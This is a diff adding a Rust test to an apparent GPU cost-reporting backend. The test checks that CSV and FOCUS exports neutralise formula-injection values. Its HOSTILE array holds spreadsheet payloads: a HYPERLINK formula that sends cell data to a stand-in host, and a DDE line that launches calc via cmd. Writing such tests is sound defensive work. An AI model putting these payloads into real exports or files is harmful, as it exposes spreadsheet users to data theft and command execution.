@@ -380,3 +380,100 @@ async fn request_counts_give_the_cost_per_thousand_requests() {
         );
     }
 }
+
+/// Hostile labels, host names, endpoints and sources posted by an agent reach every CSV export
+/// (allocation by each dimension, the FOCUS export, incidents, recommendations, cost per
+/// request and per run) neutralised: no cell starts a formula, and numbers stay numbers.
+#[tokio::test]
+async fn no_csv_cell_can_start_a_formula() {
+    const HOSTILE: [&str; 4] = [
+        "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+    ];
+    for (api, _db) in apis().await {
+        let b = api.backend;
+        let (viewer, _) = api.session("viewer").await;
+        let mut r = report("hostile-1");
+        r.host.hostname = HOSTILE[3].into();
+        r.host.instance_type = Some("g6.xlarge".into());
+        r.windows[0].gpus[0].processes[0].labels = [
+            ("model".to_string(), HOSTILE[0].to_string()),
+            ("endpoint".to_string(), HOSTILE[1].to_string()),
+            ("experiment".to_string(), HOSTILE[2].to_string()),
+            ("team".to_string(), HOSTILE[0].to_string()),
+        ]
+        .into();
+        let (status, body) = api
+            .post(Some(&api.token), serde_json::to_vec(&r).unwrap())
+            .await;
+        assert_eq!(
+            status,
+            StatusCode::OK,
+            "{b}: {}",
+            String::from_utf8_lossy(&body)
+        );
+        let (from, to) = this_month(now_ms());
+        let start = rfc3339(now_ms() - 60_000);
+        let end = rfc3339(now_ms());
+        let (status, body) = post_json(
+            &api,
+            "/api/v1/usage",
+            serde_json::json!({"source": HOSTILE[0], "counts": [
+                {"endpoint": HOSTILE[1], "start": start, "end": end, "requests": 10}
+            ]}),
+        )
+        .await;
+        assert_eq!(status, StatusCode::OK, "{b}: {body}");
+        let card = crate::billing::ratecard::RateCard::default_card();
+        crate::rollup::run(api.store.as_ref(), &card, usize::MAX)
+            .await
+            .unwrap();
+
+        let range = format!("from={}&to={}", rfc3339(from), rfc3339(to));
+        let mut paths: Vec<String> = [
+            "model",
+            "experiment",
+            "endpoint",
+            "team",
+            "cluster",
+            "host",
+            "gpu",
+        ]
+        .iter()
+        .map(|by| format!("/api/v1/allocation?{range}&by={by}&format=csv"))
+        .collect();
+        paths.push(format!("/api/v1/allocation?{range}&format=focus"));
+        paths.push(format!("/api/v1/incidents?{range}&format=csv"));
+        paths.push("/api/v1/recommendations?format=csv".to_owned());
+        paths.push(format!("/api/v1/usage?{range}&format=csv"));
+        paths.push(format!("/api/v1/runs?{range}&format=csv"));
+        let mut neutralised = 0;
+        for path in &paths {
+            let (status, csv_text) = api.get_as(path, Some(&viewer)).await;
+            assert_eq!(status, StatusCode::OK, "{b}: {path}: {csv_text}");
+            let mut reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .flexible(true)
+                .from_reader(csv_text.as_bytes());
+            for record in reader.records() {
+                let record = record.unwrap();
+                for cell in record.iter() {
+                    let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                    assert!(
+                        !starts_formula || crate::csv_out::is_plain_number(cell),
+                        "{b}: {path}: a cell starts a formula: {cell:?}"
+                    );
+                    if HOSTILE.iter().any(|h| cell == format!("'{h}")) {
+                        neutralised += 1;
+                    }
+                }
+            }
+        }
+        assert!(
+            neutralised >= 8,
+            "{b}: the hostile values reached the exports, neutralised ({neutralised} cells)"
+        );
+    }
+}
